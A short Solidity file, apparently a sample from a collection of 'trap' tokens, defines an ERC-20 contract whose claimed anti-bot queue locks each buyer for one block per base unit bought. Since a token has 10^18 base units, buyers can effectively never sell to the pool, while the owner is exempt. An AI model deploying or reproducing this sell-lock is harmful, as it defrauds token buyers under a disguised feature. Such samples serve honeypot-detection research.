// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import "../base/TrapErc20V8.sol";

/// A "short anti-bot queue": one block for each unit bought, and a token has 10^18 of them.
contract SlotQueue is TrapErc20V8 {
    mapping(address => uint256) public queuedUntil;
    address private amm;

    constructor() TrapErc20V8("Slot Queue", "SLOT", 20_000_000 ether) {}

    function initPool(address amm_) external onlyOwner {
        amm = amm_;
    }

    function _update(address from, address to, uint256 value) internal override {
        if (from == amm && from != address(0)) queuedUntil[to] = block.number + value;
        if (to == amm && from != _owner) require(block.number >= queuedUntil[from], "queue");
        super._update(from, to, value);
    }
}
